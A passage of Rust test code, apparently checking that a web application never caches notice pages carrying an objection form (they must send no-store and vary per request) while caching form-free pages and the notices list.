        let html = String::from_utf8(body).unwrap();
        if status != StatusCode::OK {
            continue;
        }
        let (again, _) = respond(&app, get(&url)).await;
        if html.contains(r#"class="objection-form""#) {
            with_form += 1;
            assert!(!hit(&again), "{url} was kept with its question");
            assert_eq!(again.headers[header::CACHE_CONTROL], "no-store");
            let (_, html2) = send(&app, get(&url)).await;
            assert_ne!(html, html2, "{url}: the same question twice");
        } else {
            without += 1;
            assert!(hit(&again), "{url} was not kept");
        }
    }
    assert!(
        with_form > 0,
        "no notice with its form among the first 12 ({without} without)"
    );
    // A page without a question (the list of notices) is kept.
    let _ = respond(&app, get("/notices")).await;
    let (again, _) = respond(&app, get("/notices")).await;
    assert!(hit(&again), "the notices list was not kept");
    drop(t);
}
